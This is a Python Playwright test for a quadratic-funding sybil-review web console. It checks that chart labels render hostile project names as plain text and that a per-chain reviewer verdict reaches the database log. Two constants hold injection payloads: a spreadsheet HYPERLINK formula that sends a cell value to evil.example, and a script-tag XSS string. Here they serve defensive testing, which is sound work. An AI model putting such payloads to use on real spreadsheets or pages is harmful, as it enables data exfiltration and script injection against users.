"""Headless Chromium on the two-chain console (:mod:`tests.console.test_chains`' database, served by uvicorn).

A named round's chart is drawn by the page's script with the projects' hostile
names as literal text; the review queue is filtered to one chain and a verdict
given from it lands in ``qf.review_log`` under that chain. Requests anywhere but
the console are refused and counted.
"""

from __future__ import annotations

from pathlib import Path

from playwright.sync_api import Browser

from qf_sentinel.console.app import create_app
from qf_sentinel.qf.db import connect
from tests.console.conftest import REVIEWER_TOKEN, serving
from tests.console.test_browser import Visit, chromium  # noqa: F401 - the module's browser fixture
from tests.console.test_chains import CAROL, CHAIN_B, ROUND, TwoChains, two_chains  # noqa: F401 - its fixture

#: The names as Plotly must draw them: the characters they are made of (the override removed).
DRAWN_P = '=HYPERLINK("http://evil.example/?"&A1)<b>P</b>'
DRAWN_R = "<script>alert(1)</script>R"


def test_a_named_rounds_chart_and_a_verdict_on_one_chain(chromium: Browser, two_chains: TwoChains,  # noqa: F811
                                                         tmp_path: Path) -> None:  # fmt: skip
    with serving(create_app(two_chains.config())) as url:
        visit = Visit(chromium, url, tmp_path)
        page = visit.page
        page.goto(url + "/login")
        page.fill("input[name=token]", REVIEWER_TOKEN)
        page.click("form.login button[type=submit]")
        page.wait_for_url(url + "/")
        visit.screenshot("rounds-two-chains")

        page.click(f'a[href="/named/{ROUND}"]')
        page.wait_for_selector('[data-figure][data-drawn="true"]')
        visit.screenshot("named-round")
        assert page.locator("[data-figure] svg a").count() == 0
        ticks = page.locator("[data-figure] .ytick text").all_text_contents()
        assert DRAWN_P in ticks
        assert DRAWN_R in ticks
        assert page.locator("[data-figure] .xtitle").text_content() == "match difference (USD)"

        page.goto(url + "/review")
        page.select_option("select[name=chain]", str(CHAIN_B))
        page.click("form.filters button[type=submit]")
        page.wait_for_url(f"{url}/review?status=pending&chain={CHAIN_B}")
        assert page.locator("table.queue tbody tr[data-chain='31337']").count() == 0
        row = page.locator(f"tr[data-donor='0x{CAROL.hex()}'][data-chain='{CHAIN_B}']")
        row.locator("input[name=verdict][value=sybil]").check()
        row.locator("input[name=comment]").fill("farm on Optimism")
        row.locator("button[type=submit]").click()
        page.wait_for_selector("p.flash")
        assert f"on chain {CHAIN_B} Optimism" in page.locator("p.flash").inner_text()
        assert page.url == f"{url}/review?status=pending&chain={CHAIN_B}", "back to the filtered queue"
        visit.screenshot("review-one-chain")
        assert visit.errors == []
        assert visit.outside == []
    with connect(two_chains.db_url) as conn:
        logged = conn.execute("SELECT chain_id, donor, verdict, comment, reviewer FROM qf.review_log").fetchall()
    assert logged == [(CHAIN_B, CAROL, "sybil", "farm on Optimism", "alice")]
